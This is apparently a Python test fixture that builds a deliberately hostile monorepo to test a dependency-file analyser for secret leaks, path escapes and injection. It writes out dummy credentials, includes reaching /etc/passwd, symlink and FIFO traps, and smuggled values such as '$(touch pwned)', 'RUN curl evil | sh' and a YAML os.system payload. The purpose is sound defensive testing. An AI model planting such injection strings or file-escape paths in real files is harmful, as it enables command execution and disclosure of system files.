"""Builds the hostile monorepo of ``tests/hostile`` in a temporary directory at test time
(nothing hostile is committed: no binary junk, no 50 MB file, no symlinks in git).

Every secret planted is in :data:`SECRETS`; the tests assert none of them appears in any
output, generated file or log.
"""

from __future__ import annotations

import os
from pathlib import Path

SECRETS = (
    "s3cr3t-pw-1",
    "s3cr3t-pw-2",
    "s3cr3t-pw-3",
    "s3cr3t-pw-4",
    "s3cr3t-pw-5",
    "s3cr3t-pw-6",
    "s3cr3t-pw-7",
    "s3cr3t-pw-8",
    "s3cr3t-pw-9",
    "ghp_tok0000000000000000000000000000000001",
    "ghp_tok0000000000000000000000000000000002",
    "ghp_tok0000000000000000000000000000000003",
    "ghp_tok0000000000000000000000000000000004",
    "ghp_tok0000000000000000000000000000000005",
    "ghp_tok0000000000000000000000000000000006",
    "glpat-s3cr3tTOKEN7",
    "npm_s3cr3tTOKEN8",
    # In a query, a fragment, or a password holding an unescaped "/" (issue 16.2).
    "qry-s3cr3t-1",
    "qry-s3cr3t-2",
    "qry-s3cr3t-3",
    "qry-s3cr3t-4",
    "qry-s3cr3t-5",
    "qry-s3cr3t-6",
    "qry-s3cr3t-7",
    "qry-s3cr3t-8",
    "sl4sh-s3cr3t-9",
)
(PW1, PW2, PW3, PW4, PW5, PW6, PW7, PW8, PW9) = SECRETS[:9]
(TOK1, TOK2, TOK3, TOK4, TOK5, TOK6, TOK7, TOK8) = SECRETS[9:17]
(Q1, Q2, Q3, Q4, Q5, Q6, Q7, Q8, SLASH9) = SECRETS[17:]

OUTSIDE_MARKER = "outside-the-root-marker"
"""The only requirement of a file outside the root: it must never be read."""
BIG_BYTES = 50 * 1024 * 1024
LONG_LINES = 10_000
DEEP = 70
"""Deeper than discovery's depth limit (64)."""

ODD_NAMES = (
    "with space",
    "quo'te\"d",
    "$(touch pwned)",
    "`touch pwned2`",
    "new\nline",
    "ünïcødé-app",
    "tab\there",
    "dollar${HOME}",
)


def _write(root: Path, rel: str, content: str | bytes) -> Path:
    path = root / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(content, bytes):
        path.write_bytes(content)
    else:
        path.write_text(content, encoding="utf-8")
    return path


def secret_files() -> dict[str, str]:
    """Every place a URL with credentials can appear, each with its own secret."""
    return {
        "secrets/req/requirements.txt": (
            f"--index-url https://user:{PW1}@pypi.example.com/simple\n"
            f"--extra-index-url https://{TOK1}@extra.example.com/simple\n"
            f"--find-links https://user:{PW2}@links.example.com/wheels\n"
            f"-i https://{TOK7}@short.example.com/simple\n"
            "--trusted-host pypi.example.com\n"
            f"privpkg @ https://user:{PW3}@files.example.com/privpkg-1.0.tar.gz\n"
            f"git+https://{TOK2}@github.com/org/vcspkg.git@v1#egg=vcspkg\n"
            f"-e git+https://oauth2:{PW4}@gitlab.example.com/org/edit.git#egg=editpkg\n"
            f"badline @ https://user:{PW9}@files.example.com/x y z\n"
            f"-r https://user:{TOK8}@remote.example.com/requirements.txt\n"
            "flask==2.3.0\n"
        ),
        "secrets/pipenv/Pipfile": (
            "[[source]]\n"
            f'url = "https://user:{PW5}@pipenv.example.com/simple"\n'
            "verify_ssl = true\n"
            'name = "private"\n\n'
            "[packages]\n"
            f'gitdep = {{git = "https://{TOK3}@github.com/org/gitdep.git", ref = "main"}}\n'
            'requests = "*"\n'
        ),
        "secrets/pipenv/Pipfile.lock": (
            "{\n"
            '  "_meta": {"sources": [{"url": "https://user:' + PW5 + '@pipenv.example.com/simple",'
            ' "name": "private", "verify_ssl": true}]},\n'
            '  "default": {\n'
            '    "requests": {"version": "==2.31.0"},\n'
            '    "gitdep": {"git": "https://'
            + TOK3
            + '@github.com/org/gitdep.git", "ref": "abc"}\n'
            "  },\n"
            '  "develop": {}\n'
            "}\n"
        ),
        "secrets/poetry/pyproject.toml": (
            "[tool.poetry]\n"
            'name = "poet"\nversion = "0.1.0"\ndescription = ""\nauthors = []\n\n'
            "[tool.poetry.dependencies]\n"
            'python = "^3.11"\n'
            f'vcs = {{ git = "https://{TOK4}@github.com/org/vcs.git", tag = "v1" }}\n'
            f'urlpkg = {{ url = "https://user:{PW6}@files.example.com/urlpkg-1.0.tar.gz" }}\n'
            'requests = "^2.31"\n\n'
            "[[tool.poetry.source]]\n"
            'name = "private"\n'
            f'url = "https://user:{PW6}@poetry.example.com/simple"\n'
            'priority = "primary"\n'
        ),
        "secrets/poetry/poetry.lock": (
            "[[package]]\n"
            'name = "requests"\nversion = "2.31.0"\ndescription = ""\noptional = false\n'
            'python-versions = ">=3.7"\nfiles = []\n\n'
            "[package.source]\n"
            'type = "legacy"\n'
            f'url = "https://user:{PW6}@poetry.example.com/simple"\n'
            'reference = "private"\n\n'
            "[metadata]\n"
            'lock-version = "2.0"\npython-versions = "^3.11"\ncontent-hash = "x"\n'
        ),
        "secrets/pep621/pyproject.toml": (
            "[project]\n"
            'name = "pep"\nversion = "0.1"\n'
            'requires-python = ">=3.10"\n'
            "dependencies = [\n"
            f'  "pkg @ https://u:{PW7}@files.example.com/pkg-1.0.tar.gz",\n'
            f'  "other @ git+https://{TOK5}@github.com/org/other.git",\n'
            '  "attrs>=23",\n'
            "]\n"
        ),
        "secrets/pep621/uv.lock": (
            "version = 1\n"
            'requires-python = ">=3.10"\n\n'
            "[[package]]\n"
            'name = "attrs"\nversion = "23.2.0"\n'
            f'source = {{ registry = "https://u:{PW8}@uv.example.com/simple" }}\n'
            'sdist = { url = "https://u:' + PW8 + '@uv.example.com/attrs-23.2.0.tar.gz" }\n'
        ),
        "secrets/pylock/requirements.txt": "attrs\n",
        "secrets/pylock/pylock.toml": (
            'lock-version = "1.0"\ncreated-by = "x"\n\n'
            "[[packages]]\n"
            'name = "attrs"\nversion = "23.2.0"\n'
            f'index = "https://{TOK6}@pylock.example.com/simple"\n'
            f'sdist = {{ url = "https://{TOK6}@pylock.example.com/attrs.tar.gz", '
            'hashes = { sha256 = "00" } }\n'
        ),
        "secrets/query/requirements.txt": (
            f"--index-url https://pypi.example.com/simple?token={Q1}\n"
            f"--extra-index-url https://gitlab.example.com/api/v4/simple?private_token={Q2}\n"
            f"--find-links https://links.example.com/wheels/?auth={Q3}\n"
            f"--extra-index-url https://user:pa/{SLASH9}@slash.example.com/simple\n"
            f"qpkg @ https://files.example.com/qpkg-1.0.tar.gz?X-Amz-Signature={Q4}\n"
            f"fpkg @ https://files.example.com/fpkg-1.0.tar.gz#token={Q5}&sha256=00\n"
            "attrs==23.2.0\n"
        ),
        "secrets/qpoetry/pyproject.toml": (
            "[tool.poetry]\n"
            'name = "qpoet"\nversion = "0.1.0"\ndescription = ""\nauthors = []\n\n'
            "[tool.poetry.dependencies]\n"
            'python = "^3.11"\n'
            'attrs = "^23"\n\n'
            "[[tool.poetry.source]]\n"
            'name = "keyed"\n'
            f'url = "https://poetry.example.com/simple?key={Q6}"\n'
            'priority = "supplemental"\n'
        ),
        "secrets/qpipenv/Pipfile": (
            "[[source]]\n"
            f'url = "https://pipenv.example.com/simple?token={Q7}"\n'
            "verify_ssl = true\n"
            'name = "private"\n\n'
            "[packages]\n"
            f'urlpkg2 = {{file = "https://files.example.com/urlpkg2-1.0.tar.gz?auth={Q8}"}}\n'
            'attrs = "*"\n'
        ),
        "secrets/setupcfg/setup.cfg": (
            "[options]\n"
            "install_requires =\n"
            f"    cfgpkg @ https://user:{PW9}@files.example.com/cfgpkg-1.0.tar.gz\n"
            "    six\n"
        ),
    }


def build_secrets(root: Path) -> Path:
    """Only the apps that hold secrets (fast to analyse many times)."""
    for rel, content in secret_files().items():
        _write(root, rel, content)
    return root


def build(root: Path, *, big: bool = True) -> Path:
    """Write the hostile monorepo under ``root`` (created); return it."""
    root.mkdir(parents=True, exist_ok=True)
    files: dict[str, str | bytes] = {
        # -r cycles of length 1 and 3
        "cycle1/requirements.txt": "-r requirements.txt\nflask==2.3.0\n",
        "cycle3/requirements.txt": "-r a.txt\nflask==2.3.0\n",
        "cycle3/a.txt": "-r b.txt\n",
        "cycle3/b.txt": "-r requirements.txt\n",
        # includes leaving the root
        "escape/requirements.txt": "-r ../../../etc/passwd\n-c /etc/passwd\nflask==2.3.0\n",
        "symescape/requirements.txt": "-r passwd-link.txt\nflask==2.3.0\n",
        "symloop/requirements.txt": "-r loop.txt\nflask==2.3.0\n",
        # encodings
        "binary/requirements.txt": bytes(range(256)) * 4,
        "utf16/requirements.txt": "flask==2.3.0\nrequests\n".encode("utf-16"),
        "latin1/requirements.txt": "flask==2.3.0  # caf\xe9\n".encode("latin-1"),
        "bomcrlf/requirements.txt": "\ufeffflask==2.3.0\r\nrequests>=2\r\n".encode(),
        # 10,000 lines
        "long/requirements.txt": "".join(f"pkg{i}==1.{i}\n" for i in range(LONG_LINES)),
        # injection attempts through names, markers and URLs
        "inject/requirements.txt": (
            'evil; os_name == "\u2028--index-url https://evil.example.com/simple #"\n'
            'evil2; os_name == "\x85-e /etc #"\n'
            "ok-name==1.0\n"
        ),
        "injecttoml/pyproject.toml": (
            "[project]\n"
            'name = "x"\nversion = "1"\n'
            "dependencies = [\n"
            '  "a; os_name == \\"\\nRUN curl evil | sh\\"",\n'
            '  "b; os_name == \\"\\u2028RUN id\\"",\n'
            '  "\\"}: {x: !!python/object/apply:os.system [id]}",\n'
            '  "c\\nRUN id",\n'
            "]\n"
        ),
        "injectpipfile/Pipfile": (
            '[packages]\n"evil\\nRUN id" = "*"\n"services:\\n  x:" = "*"\nok = "*"\n'
        ),
        **secret_files(),
    }
    for name in ODD_NAMES:
        files[f"odd/{name}/requirements.txt"] = "requests==2.31.0\n"
    deep = "/".join(f"d{i}" for i in range(DEEP))
    files[f"deep/{deep}/requirements.txt"] = "requests==2.31.0\n"
    for rel, content in files.items():
        _write(root, rel, content)
    os.symlink("/etc/passwd", root / "symescape/passwd-link.txt")
    # An app's own dependency file that is a symlink out of the tree, a FIFO, a device.
    outside = root.parent / "outside-requirements.txt"
    outside.write_text(f"{OUTSIDE_MARKER}==1.0\n", encoding="utf-8")
    for name in ("symfile", "fifo", "fifopyproject", "devzero"):
        (root / name).mkdir()
    os.symlink(outside, root / "symfile/requirements.txt")
    os.mkfifo(root / "fifo/requirements.txt")
    os.mkfifo(root / "fifopyproject/pyproject.toml")
    os.symlink("/dev/zero", root / "devzero/requirements.txt")
    os.symlink("loop.txt", root / "symloop/loop.txt")
    os.symlink(".", root / "symloop/dirloop")  # a directory symlink loop
    os.symlink("/", root / "symloop/rootlink")  # a directory symlink out of the tree
    if big:
        big_file = _write(root, "big/requirements.txt", b"")
        with big_file.open("wb") as fh:
            line = b"requests==2.31.0  # padding padding padding padding padding padding\n"
            chunk = line * (1024 * 1024 // len(line) + 1)
            written = 0
            while written < BIG_BYTES:
                fh.write(chunk)
                written += len(chunk)
    return root
